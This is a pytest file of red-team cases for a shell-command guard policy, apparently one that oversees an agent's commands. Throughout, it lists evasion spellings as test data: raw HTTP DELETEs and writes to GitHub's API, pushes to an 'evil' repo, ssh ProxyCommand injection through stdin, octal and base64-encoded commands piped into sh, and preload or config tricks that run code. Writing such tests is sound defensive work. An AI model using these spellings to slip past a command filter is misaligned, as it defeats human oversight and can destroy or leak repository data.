"""Eleventh red-team pass: raw HTTP to GitHub's API, ssh settings read from stdin, printf's own
escapes and plain conversions, bun's and deno's runners, files package tools read their build from.

Each test names a class, not one command: the other spellings of it are judged as the plain one
is, and the harmless near miss beside it stays allowed.
"""

from __future__ import annotations

from typing import Any

import pytest

from goalrail.policies.builtins._shell_words import shown_text
from goalrail.policies.builtins.github import github_policy
from goalrail.policies.builtins.working_dir import block_working_dir_changes
from tests.unit.builtins.builtin_events import shell_event

REPO = "/work/repo"
FORCE = "git push --force https://github.com/myorg/app feature/a"
EVIL = "git push https://github.com/evil/repo feature/a"
WD = block_working_dir_changes(allowed_dirs=[REPO])
GH = github_policy(write_repos=["myorg/app"], write_branches=["feature/*"])
GH_READONLY = github_policy(read_all=False, read_repos=["myorg/app"])
API = "https://api.github.com/repos"


def _verdict(policy: Any, command: str) -> str:
    out = policy(shell_event(command, cwd=REPO))
    return "ALLOW" if out is None else out["result"]


def _wd(command: str) -> str:
    return _verdict(WD, command)


def _gh(command: str) -> str:
    return _verdict(GH, command)


# --- raw HTTP: the request `gh api` would make ------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        f"curl -X DELETE {API}/myorg/app",
        f"curl -sSfLXDELETE {API}/myorg/app/git/refs/heads/feature/a",
        f"curl --request DELETE {API}/myorg/app",
        "curl -X DELETE --request-target /repos/myorg/app https://api.github.com/",
        f"curl -X DELETE {API.removeprefix('https://')}/myorg/app",  # no scheme
        "curl -X DELETE https://x:tok@API.GITHUB.COM/repos/myorg/app",
        f"wget --method=DELETE {API}/myorg/app",
        f"wget -q -O- --meth DELETE {API}/myorg/app",
        "http DELETE api.github.com/repos/myorg/app",
        "http --auth u:p DELETE api.github.com/repos/myorg/app",  # an option's value before the method
        f"xh delete {API}/myorg/app",
        f"DELETE {API}/myorg/app",
        f"lwp-request -m DELETE {API}/myorg/app",
        f"sudo curl -X DELETE {API}/myorg/app",
        f"bash -c 'curl -XDELETE {API}/myorg/app'",
    ],
)
def test_raw_http_delete_is_destructive(command: str) -> None:
    assert _gh(command) == "DENY"


@pytest.mark.parametrize(
    "command",
    [
        f"curl -X PUT {API}/evil/repo/pulls/1/merge",
        f'curl -d \'{{"title":"x"}}\' {API}/evil/repo/issues',  # a body makes it a POST
        f'curl --json \'{{"title":"x"}}\' {API}/evil/repo/issues',
        f"curl -F name=x {API}/evil/repo/labels",
        f'curl -X POST -d @- {API}/evil/repo/issues <<< \'{{"title":"x"}}\'',
        f'wget --post-data=\'{{"title":"x"}}\' {API}/evil/repo/issues',
        f"http POST {API}/evil/repo/issues title=x",
        f"http {API}/evil/repo/issues title=x",  # HTTPie: a data item makes it a POST
        f"xh PUT {API}/evil/repo/pulls/1/merge",
    ],
)
def test_raw_http_write_outside_write_repos(command: str) -> None:
    assert _gh(command) == "DENY"


def test_raw_http_body_fields_are_gh_api_fields() -> None:
    ref = f"{API}/myorg/app/git/refs/heads/feature/a"
    assert _gh(f'curl --request PATCH -d \'{{"sha":"abc","force":true}}\' {ref}') == "DENY"  # force
    assert _gh(f'curl --request PATCH -d \'{{"sha":"abc"}}\' {ref}') == "ALLOW"
    contents = f"{API}/myorg/app/contents/a.txt"
    assert _gh(f'curl -X PUT {contents} -d \'{{"content":"eA==","branch":"main"}}\'') == "DENY"
    assert _gh(f'curl -X PUT {contents} -d \'{{"content":"eA==","branch":"feature/a"}}\'') == "ALLOW"
    assert _gh(f"curl -d '{{\"private\":false}}' -X PATCH {API}/myorg/app") == "DENY"  # made public


@pytest.mark.parametrize(
    "command",
    [
        'curl -d \'{"query":"mutation { deleteRef(input:{refId:\\"x\\"}) { clientMutationId } }"}\' '
        "https://api.github.com/graphql",
        "curl --data-binary @q.json https://api.github.com/graphql",  # a body the line does not show
        f"curl -K cfg {API}/myorg/app",  # options read from a file
        "curl --data-binary @pack https://github.com/myorg/app.git/git-receive-pack",  # a smart-HTTP push
        f'curl -X PATCH "{API}/myorg/$R" -d \'{{"description":"x"}}\'',  # the repository known at run time
        'curl -X POST -d \'{"name":"x"}\' https://api.github.com/user/repos',
        'curl -X DELETE "$API/repos/myorg/app"',  # a host known only at run time, on an API path
        'curl -d x "$HOST/graphql"',
    ],
)
def test_raw_http_unsure_write_is_asked(command: str) -> None:
    assert _gh(command) == "ASK"


def test_raw_http_reads_follow_read_repos() -> None:
    assert _verdict(GH_READONLY, f"curl {API}/evil/repo/contents/secrets.txt") == "DENY"
    assert _verdict(GH_READONLY, f"curl {API}/myorg/app/pulls") == "ALLOW"


@pytest.mark.parametrize(
    "command",
    [
        f"curl {API}/python/cpython/releases/latest",
        f"curl -sL {API}/cli/cli/releases/latest | jq -r .tag_name",
        f"curl -I {API}/myorg/app",
        f"curl -G -d per_page=100 {API}/myorg/app/issues",  # -G: the data is a query
        f"wget -qO- {API}/cli/cli/releases/latest",
        "http GET api.github.com/repos/cli/cli",
        "http api.github.com/repos/cli/cli per_page==10 Accept:application/json",  # query and header items
        'curl -X POST -d \'{"title":"x"}\' https://example.com/repos/evil/repo/issues',  # another host
        "curl -fsSL https://github.com/cli/cli/releases/download/v2.0.0/gh.tar.gz -o gh.tgz",
        'curl -X POST "$WEBHOOK" -d x',  # a run-time URL on no GitHub API path
        'curl -s "$API/repos/myorg/app/pulls"',  # a read
    ],
)
def test_raw_http_near_misses_stay_allowed(command: str) -> None:
    assert _gh(command) == "ALLOW"


# --- ssh settings read from stdin ------------------------------------------------------------------


def test_ssh_config_from_stdin_is_read() -> None:
    assert _gh(f"ssh -F /dev/stdin host <<< 'ProxyCommand {EVIL}'") == "DENY"
    assert _wd("ssh -F /dev/stdin host <<'E'\nHost *\n  LocalCommand cd /etc\n  PermitLocalCommand yes\nE") == "DENY"
    assert _gh(f"echo 'ProxyCommand {EVIL}' | ssh -F /dev/fd/0 host") == "DENY"
    assert _gh(f"scp -F /dev/stdin a h:b <<< 'ProxyCommand {FORCE}'") == "DENY"
    assert _gh("gen | ssh -F /dev/stdin host") == "ASK"  # settings a program writes
    assert _gh("ssh -F /dev/stdin host <<< 'Port 2222'") == "ALLOW"
    assert _gh("true | ssh -F /dev/stdin host <<< 'Port 2222'") == "ALLOW"  # the here-string, not the pipe


def test_ssh_config_match_exec_runs_a_command() -> None:
    assert _gh(f"ssh -F <(echo 'Match exec \"{EVIL}\"') host") == "DENY"
    assert _wd("ssh -F /dev/stdin h <<< 'Match host x exec \"cd /etc\"'") == "DENY"
    assert _wd("ssh -F /dev/stdin h <<< 'Match host x'") == "ALLOW"


# --- printf: its own octal escapes, `%s` and `%b` ---------------------------------------------------


def test_printf_format_is_decoded_as_bash_does() -> None:
    def show(*args: str) -> str | None:
        return shown_text([("printf", False), *((a, False) for a in args)])

    assert show("\\143\\144 /etc\\n") == "cd /etc\n"  # octal without a leading 0
    assert show("\\0101") == "\x081"  # at most three digits
    assert show("\\c|\\q") == "\\c|\\q"  # not escapes in a format: written as they stand
    assert show("100%%") == "100%"
    assert show("%s\\n", "a", "b") == "a\nb\n"  # the format is reused
    assert show("%b", "cd \\x2fetc") == "cd /etc"
    assert show("%d", "5") is None
    assert show("%5s", "x") is None
    assert show("--", "\\x41") == "A"
    assert show("-v", "X", "y") is None


@pytest.mark.parametrize(
    ("policy", "command"),
    [
        ("wd", "printf '\\143\\144 /etc\\n' | sh"),
        ("gh", "printf '\\147\\151\\164 push --force https://github.com/myorg/app feature/a\\n' | bash"),
        ("wd", "printf '%s\\n' 'cd /etc' | sh"),
        ("wd", "printf '%s\\n%s\\n' ls 'cd /etc' | bash"),
        ("gh", f"printf '%s ' {FORCE} | bash"),
        ("wd", "printf '%b' 'cd \\x2fetc\\n' | bash"),
        ("wd", "printf -- '\\143d /etc\\n' > x.sh; sh x.sh"),
        ("wd", "bash <(printf '\\143d /etc')"),
    ],
)
def test_printf_built_commands_are_judged(policy: str, command: str) -> None:
    assert (_wd if policy == "wd" else _gh)(command) == "DENY"


def test_printf_near_misses() -> None:
    assert _wd("printf '%s\\n' 'make test' | sh") == "ALLOW"  # was asked: the format was not read
    assert _wd("printf '%d\\n' 5 | sh") == "ASK"  # a conversion not modelled
    assert _wd("printf 'done: 100%%\\n'") == "ALLOW"


# --- bun run, bare bun, deno run - -------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        f"bun run {FORCE}",
        f"bun {FORCE}",  # `bun WORD` is `bun run WORD`
        f"bun --bun x {FORCE}",  # bun's valueless options before its subcommand
        f"bun run --silent bash -c '{FORCE}'",
    ],
)
def test_bun_runs_the_program_it_names(command: str) -> None:
    assert _gh(command) == "DENY"


def test_bun_run_directory_and_near_misses() -> None:
    assert _wd("bun run sh -c 'cd /etc'") == "DENY"
    assert _wd("bun --smol run env -C /etc ls") == "DENY"
    assert _wd("bun run --cwd /etc build") == "DENY"
    for ok in ("bun dev", "bun run build", "bun index.ts", "bun run --watch src/index.ts", "bun install", "bun test"):
        assert _wd(ok) == "ALLOW" and _gh(ok) == "ALLOW", ok


def test_deno_run_reads_code_from_stdin_or_a_substitution() -> None:
    assert _wd("deno run --allow-run <(echo 'Deno.chdir(\"/etc\")')") == "ASK"
    assert _wd("echo 'Deno.chdir(\"/etc\")' | deno run -") == "ASK"
    assert _gh('deno run -A - <<< \'new Deno.Command("git", {args: ["push"]}).outputSync()\'') == "ASK"
    assert _wd("deno run -A main.ts") == "ALLOW"


# --- files a package tool reads its build or its script shell from ----------------------------------


@pytest.mark.parametrize(
    "command",
    [
        f"echo 'import os; os.system(\"{EVIL}\")' > setup.py && pip install .",
        "cat > pyproject.toml <<'E'\n[build-system]\nbackend-path = [\".\"]\nE\nuv pip install -e .",
        "cat > build.rs <<'E'\nfn main() {}\nE\ncargo build",
        "printf 'script-shell=./x.sh\\n' > .npmrc; echo 'cd /etc' > x.sh; npm run build",
    ],
)
def test_build_files_the_line_writes_are_asked(command: str) -> None:
    assert _wd(command) == "ASK"


def test_npm_script_shell_the_line_writes_is_run() -> None:
    assert _wd("echo 'cd /etc' > x.sh; chmod +x x.sh; npm run build --script-shell ./x.sh") == "DENY"
    assert _gh(f"echo '{FORCE}' > x.sh; npm_config_script_shell=./x.sh npm test") == "DENY"
    assert _wd("npm run build --script-shell bash") == "ALLOW"
    assert _wd("echo 'requests' > requirements.txt && pip install -r requirements.txt") == "ALLOW"


# --- git keys that run commands; interpreters' preload variables --------------------------------------


@pytest.mark.parametrize(
    "key",
    ["trailer.x.cmd", "trailer.sign.command", "sendemail.toCmd", "sendemail.ccCmd", "gpg.ssh.defaultKeyCommand"],
)
def test_git_keys_that_run_a_command(key: str) -> None:
    assert _wd(f"git -c {key}='cd /etc' commit --trailer x=1 -m m") == "DENY"
    assert _gh(f"git -c {key}='{EVIL}' commit -S --trailer x=1 -m m") == "DENY"
    assert _wd(f"git config {key} 'cd /etc'") == "DENY"


def test_trailer_keys_that_run_nothing_stay_allowed() -> None:
    assert _gh("git -c trailer.sign.key=Signed-off-by commit --trailer sign=a -m x") == "ALLOW"
    assert _gh("git -c trailer.ifexists=replace commit -m x --trailer 'Fixes: 1'") == "ALLOW"


def test_preload_variables_naming_a_written_file() -> None:
    js = f'echo \'require("child_process").execSync("{EVIL}")\' > x.js'
    assert _gh(f"{js}; NODE_OPTIONS='--require ./x.js' npm test") == "DENY"
    assert _wd("echo 'process.chdir(\"/etc\")' > x.js; NODE_OPTIONS=--require=./x.js node app.js") == "ASK"
    assert _wd("echo 'process.chdir(\"/etc\")' > x.js; env NODE_OPTIONS='--import ./x.js' node a.js") == "ASK"
    assert _wd("echo 'Dir.chdir(\"/etc\")' > x.rb; RUBYOPT=-r./x.rb bundle exec rake") == "ASK"
    assert _wd("NODE_OPTIONS='--require ./setup.js' npm test") == "ALLOW"  # a file already on disk
    assert _wd("NODE_OPTIONS='--max-old-space-size=4096' npm run build") == "ALLOW"


# --- base64 / hex decoded into a shell -------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "echo Y2QgL2V0Yw== | base64 -d | sh",
        "echo Y2QgL2V0Yw | base64 --decode | bash",  # padding left out
        "base64 -d <<< Y2QgL2V0Yw== | bash",
        "printf 'Y2QgL2V0Yw==' | base64 -D | sh",
        "echo 6364202f657463 | xxd -r -p | sh",
        "echo 6364202f657463 | xxd -rp | sh",
    ],
)
def test_decoded_text_piped_into_a_shell_is_read(command: str) -> None:
    assert _wd(command) == "DENY"


def test_decoded_near_misses() -> None:
    assert _wd("echo bHMgLWxh | base64 -d | sh") == "ALLOW"  # `ls -la`
    assert _wd("cat x.b64 | base64 -d | sh") == "ASK"  # a file's text is not shown
    assert _wd("echo '!!!' | base64 -d | sh") == "ASK"
    assert _wd("echo Y2QgL2V0Yw== | base64 | sh") == "ASK"  # encodes: not read


# --- configuration files the line writes before a program reads them -------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "printf 'Host *\\n  ProxyCommand cd /etc\\n' > c; ssh -F c h",
        "printf 'Host *\\n  ProxyCommand cd /etc\\n' > c; scp -Fc a h:b",
        "printf 'Host *\\n  ProxyCommand cd /etc\\n' >> ~/.ssh/config; ssh h",
        "printf '[core]\\n\\tpager = cd /etc\\n' >> ~/.gitconfig; git log",
        "printf '[core]\\n\\tpager = cd /etc\\n' > ~/.config/git/config; git log",
        "printf '[core]\\n\\tpager = cd /etc\\n' > /tmp/gc; GIT_CONFIG_GLOBAL=/tmp/gc git log",
        "printf '[core]\\n\\tpager = cd /etc\\n' > /tmp/gc; git -c include.path=/tmp/gc log",
        "echo 'cd /etc' > ~/.bash_aliases; bash -i",
    ],
)
def test_config_files_the_line_writes_are_asked(command: str) -> None:
    assert _wd(command) == "ASK"


def test_config_near_misses() -> None:
    assert _wd("echo x > f.txt; git add f.txt && git commit -m x") == "ALLOW"
    assert _wd("printf 'Host *\\n  User git\\n' > c; ssh -F ~/.ssh/other h") == "ALLOW"
    assert _wd("ssh -F c h") == "ALLOW"  # a file already on disk


# --- prompt expansion -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    ["x='$(cd /etc)'; echo \"${x@P}\"", "echo ${x@P}", 'echo "${a[@]@P}"', "echo ${!r@P}", "cat <<E\n${x@P}\nE"],
)
def test_prompt_expansion_runs_its_value(command: str) -> None:
    assert _wd(command) == "ASK"


def test_other_transformations_stay_allowed() -> None:
    assert _wd('echo "${x@Q}" "${x@U}" "${x@L}" "${x@E}"') == "ALLOW"
